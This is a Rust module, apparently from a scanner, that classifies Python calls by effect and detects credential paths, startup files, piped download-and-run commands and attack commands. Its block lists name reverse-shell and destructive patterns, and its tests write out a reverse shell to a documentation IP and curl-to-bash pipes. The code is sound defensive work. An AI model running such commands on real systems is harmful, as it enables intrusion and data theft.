//! What names outside the module do when they are called. Names are those of Python's and the libraries' own
//! documentation; `()` stands for what a call gives.

/// What a call does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Effect {
    /// Starts a process.
    Process,
    /// Runs code given as text, code object or file.
    Code,
    /// Loads or compiles native code.
    Native,
    /// Rebuilds objects with the power to run code.
    Deserialise,
    /// Sends to the network, or opens a connection.
    Send,
    /// Fetches from the network.
    Fetch,
    /// Removes or changes files in place.
    Destroy,
    /// Changes the interpreter for everybody.
    Interpreter,
}

impl Effect {
    /// Its name in facts.
    pub fn code(self) -> &'static str {
        match self {
            Self::Process => "process",
            Self::Code => "computed-code",
            Self::Native => "native-code",
            Self::Deserialise => "deserialise",
            Self::Send => "network-send",
            Self::Fetch => "network-fetch",
            Self::Destroy => "file-change",
            Self::Interpreter => "interpreter",
        }
    }
}

/// Exact names, or with a `*` at the end whatever begins so.
const TABLE: &[(Effect, &[&str])] = &[
    (
        Effect::Process,
        &[
            "os.system",
            "os.popen*",
            "os.exec*",
            "os.spawn*",
            "os.posix_spawn*",
            "os.startfile",
            "posix.system",
            "posix.popen",
            "posix.exec*",
            "posix.posix_spawn*",
            "nt.system",
            "nt.startfile",
            "subprocess.run",
            "subprocess.Popen",
            "subprocess.call",
            "subprocess.check_call",
            "subprocess.check_output",
            "subprocess.getoutput",
            "subprocess.getstatusoutput",
            "_posixsubprocess.fork_exec",
            "_winapi.CreateProcess",
            "pty.spawn",
            "commands.getoutput",
            "commands.getstatusoutput",
            "popen2.*",
            "platform.popen",
            "asyncio.create_subprocess_*",
            "asyncio.subprocess.create_subprocess_*",
            "distutils.spawn.spawn",
            "pexpect.spawn",
            "pexpect.run",
            "pip.main",
            "pip._internal.main",
            "pip._internal.main.main",
            "pip._internal.cli.main.main",
            "ctypes.CDLL().system",
            "ctypes.cdll.LoadLibrary().system",
            "ctypes.cdll.msvcrt.system",
            "builtins.get_ipython().system",
            "IPython.get_ipython().system",
            "sh.*",
            "invoke.run",
            "webbrowser.open*",
            "antigravity.*",
        ],
    ),
    (
        Effect::Code,
        &[
            "builtins.exec",
            "builtins.eval",
            "builtins.execfile",
            "builtins.compile",
            "runpy.run_*",
            "code.InteractiveInterpreter().run*",
            "code.InteractiveConsole().run*",
            "code.interact",
            "timeit.timeit",
            "timeit.repeat",
            "timeit.Timer",
            "cProfile.run",
            "profile.run",
            "pdb.run",
            "types.CodeType",
            "types.FunctionType",
            "importlib.util.spec_from_loader().loader.exec_module",
            "imp.load_source",
            "imp.load_module",
            "importlib.machinery.SourceFileLoader().load_module",
            "importlib.machinery.SourcelessFileLoader*",
            "pandas.eval",
            "codeop.compile_command",
            "builtins.get_ipython().run_*",
            "js2py.eval_js",
        ],
    ),
    (
        Effect::Native,
        &[
            "ctypes.CDLL",
            "ctypes.PyDLL",
            "ctypes.WinDLL",
            "ctypes.OleDLL",
            "ctypes.cdll.LoadLibrary",
            "ctypes.pythonapi*",
            "ctypes.windll.*",
            "ctypes.memmove",
            "ctypes.CFUNCTYPE()",
            "_ctypes.dlopen",
            "cffi.FFI().dlopen",
            "torch.ops.load_library",
            "torch.classes.load_library",
            "torch.utils.cpp_extension.load",
            "torch.utils.cpp_extension.load_inline",
            "tensorflow.load_op_library",
            "tensorflow.load_library",
            "numpy.ctypeslib.load_library",
            "imp.load_dynamic",
            "importlib.machinery.ExtensionFileLoader*",
        ],
    ),
    (
        Effect::Deserialise,
        &[
            "pickle.load*",
            "pickle.Unpickler",
            "_pickle.load*",
            "cPickle.load*",
            "cloudpickle.load*",
            "dill.load*",
            "joblib.load",
            "marshal.load*",
            "shelve.open",
            "jsonpickle.decode",
            "pandas.read_pickle",
            "yaml.unsafe_load*",
            "yaml.full_load*",
            "torch.load",
            "builtins.pickle.load*",
        ],
    ),
    (
        Effect::Send,
        &[
            "socket.socket().connect*",
            "socket.socket().send*",
            "socket.socket().listen",
            "socket.create_connection",
            "socket.create_connection().send*",
            "socket.create_server",
            "requests.post",
            "requests.put",
            "requests.patch",
            "requests.Session().post",
            "requests.Session().put",
            "requests.session().post",
            "httpx.post",
            "httpx.put",
            "httpx.Client().post",
            "aiohttp.ClientSession().post",
            "smtplib.SMTP*",
            "ftplib.FTP*",
            "telnetlib.Telnet*",
            "paramiko.SSHClient().connect",
            "paramiko.Transport",
            "xmlrpc.client.ServerProxy",
            "websocket.*",
            "websockets.connect",
            "http.client.HTTPConnection().request",
            "http.client.HTTPSConnection().request",
            "asyncio.open_connection",
            "http.server.*().serve_forever",
            "socketserver.*().serve_forever",
            "dns.resolver.*",
        ],
    ),
    (
        Effect::Fetch,
        &[
            "requests.get",
            "requests.request",
            "requests.head",
            "requests.Session().get",
            "requests.session().get",
            "urllib.request.urlopen",
            "urllib.request.urlretrieve",
            "urllib.request.build_opener().open",
            "urllib.request.FancyURLopener*",
            "urllib.urlopen",
            "urllib.urlretrieve",
            "urllib2.urlopen",
            "httpx.get",
            "httpx.Client().get",
            "aiohttp.ClientSession().get",
            "wget.download",
            "urllib3.PoolManager().request",
            "urllib3.request",
            "torch.hub.load",
            "torch.hub.load_state_dict_from_url",
            "torch.hub.download_url_to_file",
            "http.client.HTTPSConnection().getresponse",
            "http.client.HTTPConnection().getresponse",
            "socket.socket().recv*",
            "socket.create_connection().recv*",
            "socket.gethostbyname*",
            "socket.getaddrinfo",
            "gdown.download*",
        ],
    ),
    (
        Effect::Destroy,
        &[
            "shutil.rmtree",
            "os.remove",
            "os.unlink",
            "os.rmdir",
            "os.removedirs",
            "os.chmod",
            "os.chown",
            "os.truncate",
        ],
    ),
    (
        Effect::Interpreter,
        &[
            "sys.settrace",
            "sys.setprofile",
            "sys.addaudithook",
            "sys.meta_path.*",
            "sys.path_hooks.*",
            "sys._getframe*",
            "gc.get_objects",
            "gc.get_referrers",
            "signal.signal",
            "faulthandler.*",
        ],
    ),
];

/// Modules that stand for another.
const SAME: &[(&str, &str)] = &[
    ("__builtin__", "builtins"),
    ("__builtins__", "builtins"),
    ("_io", "io"),
    ("_socket", "socket"),
    ("torch.multiprocessing", "multiprocessing"),
    ("six.moves.urllib.request", "urllib.request"),
    ("six.moves.cPickle", "pickle"),
    ("tensorflow.compat.v1", "tensorflow"),
];

/// One spelling for all names of a thing.
fn usual(path: &str) -> String {
    for (from, to) in SAME {
        if let Some(rest) = path.strip_prefix(from)
            && (rest.is_empty() || rest.starts_with('.'))
        {
            return format!("{to}{rest}");
        }
    }
    path.into()
}

/// What calling `path` does.
pub(super) fn of(path: &str) -> Option<Effect> {
    let path = usual(path);
    TABLE.iter().find(|(_, names)| names.iter().any(|name| fits(name, &path))).map(|(effect, _)| *effect)
}

/// `*` stands for any text, also in the middle (once).
fn fits(name: &str, path: &str) -> bool {
    match name.split_once('*') {
        None => name == path,
        Some((before, after)) => {
            path.len() >= before.len() + after.len() && path.starts_with(before) && path.ends_with(after)
        }
    }
}

/// Does a value that this call gives come from the network?
pub(super) fn fetches(path: &str) -> bool {
    let path = usual(path);
    of(&path) == Some(Effect::Fetch) && !["torch.hub.load", "socket.get"].iter().any(|p| path.starts_with(p))
}

/// Text that names a place where credentials lie.
pub(super) fn is_secret(text: &str) -> bool {
    const PLACES: &[&str] = &[
        ".ssh/",
        ".ssh\\",
        "id_rsa",
        "id_ed25519",
        ".aws/credentials",
        ".aws/config",
        ".netrc",
        ".git-credentials",
        ".docker/config.json",
        ".kube/config",
        "huggingface/token",
        "huggingface/stored_tokens",
        ".pypirc",
        ".npmrc",
        "/etc/shadow",
        "/etc/passwd",
        "Login Data",
        "logins.json",
        "key4.db",
        "Local State",
        "wallet.dat",
        ".gnupg/",
        "application_default_credentials.json",
        ".azure/",
        ".config/gh/hosts.yml",
        "/proc/self/environ",
        "/var/run/secrets/",
        "169.254.169.254",
        "Library/Keychains",
    ];
    let text = text.trim();
    // Whom to connect to is no secret.
    let public = [".ssh/config", "known_hosts", ".pub"].iter().any(|p| text.ends_with(p));
    text.len() < 400 && !public && (PLACES.iter().any(|p| text.contains(p)) || text.ends_with(".ssh"))
}

/// Text that names a place whose content runs later by itself.
pub(super) fn is_startup(text: &str) -> bool {
    const PLACES: &[&str] = &[
        ".bashrc",
        ".zshrc",
        ".profile",
        ".bash_profile",
        "authorized_keys",
        "/etc/cron",
        "/var/spool/cron",
        "crontab",
        "LaunchAgents",
        "LaunchDaemons",
        "systemd/system",
        "systemd/user",
        "Start Menu\\Programs\\Startup",
        "/etc/ld.so.preload",
        "/etc/sudoers",
        "/etc/rc.local",
        ".config/autostart",
    ];
    let text = text.trim();
    // Python's own start-up files count where Python looks for them.
    let python = (text.ends_with("customize.py") || text.ends_with(".pth"))
        && ["site-packages", "getsitepackages", "getusersitepackages"].iter().any(|p| text.contains(p));
    text.len() < 400 && (python || PLACES.iter().any(|p| text.contains(p)))
}

/// A command line that runs what it fetches or decodes, without a look. Installers are honest examples.
pub(super) fn is_piped(command: &str) -> bool {
    let piped = ["| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo", "| zsh"]
        .iter()
        .any(|p| command.contains(p));
    let source =
        ["curl ", "wget ", "base64 -d", "base64 --decode", "xxd -r"].iter().any(|s| command.contains(s));
    let substituted = ["$(curl", "$(wget", "<(curl", "<(wget"].iter().any(|s| command.contains(s));
    piped && source || substituted
}

/// A command line that is an attack whoever runs it, such as a shell over the network.
pub(crate) fn is_attack(command: &str) -> bool {
    const ALWAYS: &[&str] = &[
        "/dev/tcp/",
        "/dev/udp/",
        "nc -e",
        "ncat -e",
        "nc -c",
        "mkfifo /tmp",
        "certutil -urlcache",
        "powershell -e",
        "powershell.exe -e",
        "-EncodedCommand",
        "mshta http",
        "rm -rf /*",
        "rm -rf ~",
        "rm -rf $HOME",
        "IEX(",
        "DownloadString(",
        "xmrig",
        "chattr +i",
    ];
    let command = command.trim();
    let all_of_it = command.ends_with("rm -rf /") || command.contains("rm -rf / ");
    let interactive = command.split([' ', '/', '\'', '"', ';', '|', '&']).collect::<Vec<_>>();
    let interactive = interactive.windows(2).any(|w| matches!(w, ["sh" | "bash", "-i"]))
        && ["/dev/", ">&", "nc ", "telnet "].iter().any(|s| command.contains(s));
    ALWAYS.iter().any(|a| command.contains(a)) || all_of_it || interactive
}

/// A command line that fetches something.
pub(super) fn is_download(command: &str) -> bool {
    command
        .split(|c: char| !c.is_alphanumeric() && c != '_' && c != '-')
        .any(|w| matches!(w, "curl" | "wget"))
}

/// Methods that loaders call: their own code and what it calls runs when the model is loaded or used.
pub(super) fn is_hook(name: &str) -> bool {
    is_entry(name)
        || matches!(
            name,
            "__init__"
                | "__new__"
                | "__call__"
                | "__setstate__"
                | "__reduce__"
                | "__reduce_ex__"
                | "__init_subclass__"
                | "__set_name__"
                | "__class_getitem__"
                | "__getattr__"
                | "__del__"
                | "__post_init__"
                | "__enter__"
                | "forward"
                | "from_pretrained"
                | "_from_pretrained"
                | "load"
                | "_load"
                | "load_model"
                | "load_context"
                | "_load_pyfunc"
                | "predict"
                | "predict_stream"
                | "generate"
                | "initialize"
                | "handle"
                | "preprocess"
                | "postprocess"
                | "inference"
                | "build"
                | "call"
                | "get_config"
                | "from_config"
                | "tokenize"
                | "_tokenize"
                | "encode"
                | "decode"
                | "_info"
                | "_split_generators"
                | "_generate_examples"
                | "model_fn"
                | "input_fn"
                | "predict_fn"
                | "output_fn"
                | "reset_parameters"
                | "post_init"
                | "_init_weights"
                | "save_pretrained"
        )
}

/// Functions of a module that loaders and servers call.
pub(super) fn is_entry(name: &str) -> bool {
    name.starts_with("load")
        || matches!(
            name,
            "_load_pyfunc"
                | "from_pretrained"
                | "predict"
                | "handle"
                | "initialize"
                | "inference"
                | "model_fn"
                | "input_fn"
                | "predict_fn"
                | "output_fn"
                | "__getattr__"
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_have_their_effects() {
        assert_eq!(of("os.system"), Some(Effect::Process));
        assert_eq!(of("os.popen"), Some(Effect::Process));
        assert_eq!(of("__builtins__.exec"), Some(Effect::Code));
        assert_eq!(of("os.path.join"), None);
        assert_eq!(of("os.execvp"), Some(Effect::Process));
        assert!(fetches("requests.get") && !fetches("requests.get().text"));
    }

    #[test]
    fn attacks_are_told_from_errands() {
        assert!(is_attack("bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'"));
        assert!(is_piped("curl -s http://example.org/x.sh | bash"));
        assert!(is_piped("echo aWQ= | base64 -d | sh"));
        assert!(!is_attack("ssh -i key.pem host") && !is_piped("curl -O http://example.org/x"));
        assert!(
            !is_attack("git describe --tags") && !is_attack("rm -rf /tmp/build") && !is_attack("nvidia-smi")
        );
        assert!(is_download("wget http://example.org/x") && !is_download("widget"));
    }
}
